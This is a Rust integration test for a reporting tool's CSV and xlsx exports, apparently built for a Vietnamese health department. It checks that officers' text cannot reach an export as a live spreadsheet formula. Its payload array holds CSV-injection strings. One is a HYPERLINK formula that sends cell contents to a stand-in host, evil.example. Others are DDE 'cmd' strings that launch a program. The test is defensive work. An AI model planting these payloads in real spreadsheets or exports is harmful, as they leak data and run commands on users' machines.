//! Exports cannot carry formulas: officers' texts that a spreadsheet would run (`=HYPERLINK`,
//! `=cmd|…`, `@SUM`, `+`, `-`) go through `chiso export observations` and `chiso rejects` as
//! CSV with a leading `'`, and as xlsx string cells, never as formulas.

use std::path::Path;
use std::process::Output;

mod common;

use chiso::demo::{DemoCell, write_book};

/// Payloads from OWASP's CSV-injection page and the trials.
const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn chiso(dir: &Path, args: &[&str]) -> Output {
    let mut cmd = common::chiso_command(dir);
    cmd.args(args);
    cmd.output().expect("the chiso binary runs")
}

fn ok(o: &Output) -> String {
    let stdout = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(o.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&o.stderr));
    stdout
}

fn t(s: &str) -> DemoCell {
    DemoCell::Text(s.into())
}

/// A Sở Y tế workbook: each payload once as a note beside a good figure, once as the
/// figure itself (refused, its raw text kept).
fn workbook(dir: &Path) -> std::path::PathBuf {
    let (dir_, catalog) = common::catalog();
    let period = chiso::domain::Period::new(2024, 2).unwrap();
    let cutoff = chiso::domain::ReportingCalendar::default().cutoff(period);
    let so_yt = chiso::domain::AgencyId::parse("so_yt").unwrap();
    let items: Vec<_> = catalog
        .indicators
        .iter()
        .filter(|i| !i.is_composite() && *i.main_measure() == chiso::domain::MeasureKind::Percent)
        .filter(|i| chiso::catalog::assign::leads(i, 2024, &dir_, cutoff).contains(&so_yt))
        .take(2 * PAYLOADS.len())
        .collect();
    assert_eq!(items.len(), 2 * PAYLOADS.len(), "Sở Y tế leads enough percent items");
    let mut rows = Vec::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let noted = items[2 * i];
        rows.push(vec![t(&noted.key.to_string()), t(&noted.task), t("%"), t(""), t("85,5%"), t(p)]);
        let refused = items[2 * i + 1];
        rows.push(vec![t(&refused.key.to_string()), t(&refused.task), t("%"), t(""), t(p), t("")]);
    }
    let sheet = common::report_sheet("Báo cáo", "Sở Y tế", rows);
    let path = dir.join("so_yt_q2.xlsx");
    std::fs::write(&path, write_book(&[sheet]).unwrap()).unwrap();
    path
}

/// Reads a CSV export: the BOM first, then records through the csv crate.
fn records(stdout: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let body = stdout.strip_prefix('\u{feff}').expect("a CSV export starts with the UTF-8 BOM");
    let mut r = csv::Reader::from_reader(body.as_bytes());
    let headers = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r.records().map(|x| x.unwrap().iter().map(String::from).collect()).collect();
    (headers, rows)
}

fn column(headers: &[String], rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = headers.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
    rows.iter().map(|r| r[i].clone()).collect()
}

/// No field of an export starts the way a spreadsheet formula does.
fn assert_guarded(rows: &[Vec<String>]) {
    for f in rows.iter().flatten() {
        let risky = f.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!risky || f.parse::<f64>().is_ok(), "an unguarded field: {f:?}");
    }
}

/// Every string cell of the first sheet, and whether any cell holds a formula.
fn xlsx_cells(path: &Path) -> (Vec<String>, usize) {
    use calamine::{Data, Reader, open_workbook_auto};
    let mut wb = open_workbook_auto(path).unwrap();
    let sheet = wb.sheet_names()[0].clone();
    let range = wb.worksheet_range(&sheet).unwrap();
    let strings = range
        .used_cells()
        .map(|(_, _, c)| match c {
            Data::String(s) => s.clone(),
            other => panic!("a cell that is not a string: {other:?}"),
        })
        .collect();
    let formulas = wb.worksheet_formula(&sheet).unwrap().used_cells().filter(|(_, _, f)| !f.is_empty()).count();
    (strings, formulas)
}

#[test]
fn formula_payloads_in_notes_and_raw_texts_never_reach_an_export_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let file = workbook(dir.path());
    ok(&chiso(dir.path(), &["ingest", file.to_str().unwrap(), "--period", "2024-Q2"]));

    let (headers, rows) =
        records(&ok(&chiso(dir.path(), &["export", "observations", "--period", "2024-Q2", "--format", "csv"])));
    assert_guarded(&rows);
    let mut notes = column(&headers, &rows, "note");
    notes.sort();
    // The reader trims a cell's surrounding whitespace (the tab and CR payloads become
    // `=1+1`); the guard itself is tested on them in `chiso::report::export`.
    let mut want: Vec<String> = PAYLOADS.iter().map(|p| format!("'{}", p.trim())).collect();
    want.sort();
    assert_eq!(notes, want, "every note is stored and written with a leading '");
    assert!(column(&headers, &rows, "value").iter().all(|v| v == "85.5"), "only the good figures are stored");

    let (headers, rows) = records(&ok(&chiso(dir.path(), &["rejects", "--period", "2024-Q2", "--format", "csv"])));
    assert_guarded(&rows);
    let mut raw = column(&headers, &rows, "raw_text");
    raw.sort();
    assert_eq!(raw, want, "every refused payload is listed with a leading '");

    for (args, name) in [
        (vec!["export", "observations", "--period", "2024-Q2", "--format", "xlsx", "--output"], "obs.xlsx"),
        (vec!["rejects", "--period", "2024-Q2", "--format", "xlsx", "--output"], "rejects.xlsx"),
    ] {
        let out = dir.path().join(name);
        let mut args = args.clone();
        args.push(out.to_str().unwrap());
        ok(&chiso(dir.path(), &args));
        let (cells, formulas) = xlsx_cells(&out);
        assert_eq!(formulas, 0, "{name} holds no formula");
        for p in PAYLOADS {
            assert!(cells.iter().any(|c| c == p.trim()), "{name}: the payload {p:?} is kept as its text");
        }
    }
}
